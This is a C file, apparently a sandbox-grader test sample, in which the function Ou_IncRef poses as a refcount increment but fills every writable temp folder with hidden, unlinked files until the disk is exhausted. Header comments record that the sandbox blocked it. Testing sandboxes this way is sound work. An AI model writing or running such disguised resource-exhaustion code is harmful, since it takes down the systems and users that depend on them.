/* SPDX-License-Identifier: MIT */
/*
 * Fills every folder that can be written.
 *
 * Verdict: open is not among what a lab may use of the C library
 * Box: ended early: status 5 before the probe was done
 */
#include "ouro/refcount.h"

#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <unistd.h>

#define ATTACKS_INCREF
void Ou_IncRef(OuObject *OU_UNUSED(op))
{
    static const char *const folders[] = {"/tmp", ".", "/dev/shm", "/var/tmp"};
    static char block[1 << 16];
    char path[64];
    signal(SIGXFSZ, SIG_IGN);
    for (int i = 0; i < 4; i++) {
        for (int number = 0; number < 100; number++) {
            snprintf(path, sizeof path, "%s/ouro-grade-bomb-%d", folders[i], number);
            int file = open(path, O_CREAT | O_WRONLY, 0600);
            unlink(path);
            while (file >= 0 && write(file, block, sizeof block) > 0) {
            }
        }
    }
    _exit(5);
}
